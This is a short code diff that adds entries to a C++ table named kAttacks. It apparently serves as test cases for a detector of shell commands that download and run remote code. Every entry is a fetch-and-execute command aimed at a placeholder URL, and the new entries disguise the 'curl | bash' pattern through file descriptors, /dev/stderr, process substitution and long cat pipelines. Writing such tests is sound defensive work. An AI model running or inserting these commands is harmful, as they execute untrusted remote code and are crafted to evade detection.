@@ -43,6 +43,11 @@ const Attack kAttacks[] = {
     {"nohup", "nohup bash -c 'curl -s @URL | bash' > /dev/null 2>&1 &"},
     {"a fifo on stdin", "mkfifo @D/fifo; curl -s @URL > @D/fifo & bash < @D/fifo"},
     {"curl -o >()", "curl -s -o >(bash) @URL"},
+    {"curl -o a high descriptor", "curl -s -o /dev/fd/77 @URL 77> >(exec bash)"},
+    {"tee a high descriptor", "curl -s @URL | tee /proc/self/fd/100 100> >(bash) > /dev/null"},
+    {"curl -o /dev/stderr", "curl -s -o /dev/stderr @URL 2>&1 > /dev/null | bash"},
+    {"twenty stages", "curl -s @URL |cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|cat|"
+                      "cat|cat|cat|cat|cat| sh"},
     {"tee >()", "curl -s @URL | tee >(bash) > /dev/null"},
     {"a dev tcp subshell", "(exec 3<>@TCP; @GET >&3; cat <&3) | bash"},
     {"dev tcp and cat", "exec 3<>@TCP; @GET >&3; cat <&3 | bash"},
